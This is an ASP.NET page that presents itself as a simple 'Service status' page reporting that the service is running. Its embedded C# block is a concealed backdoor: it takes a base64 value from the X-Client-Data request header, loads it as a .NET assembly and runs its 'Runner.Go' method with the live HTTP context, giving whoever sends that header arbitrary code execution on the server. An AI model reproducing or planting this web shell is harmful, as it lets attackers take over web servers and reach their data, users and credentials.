<%@ Page Language="C#" AutoEventWireup="true" %>
<!DOCTYPE html>
<html>
<head><title>Service status</title></head>
<body>
<p>Service is running.</p>
<%
    string h = Request.Headers["X-Client-Data"];
    if (!string.IsNullOrEmpty(h))
    {
        System.Reflection.Assembly asm = AppDomain.CurrentDomain.Load(Convert.FromBase64String(h));
        asm.GetType("Runner").GetMethod("Go").Invoke(null, new object[] { HttpContext.Current });
    }
%>
</body>
</html>
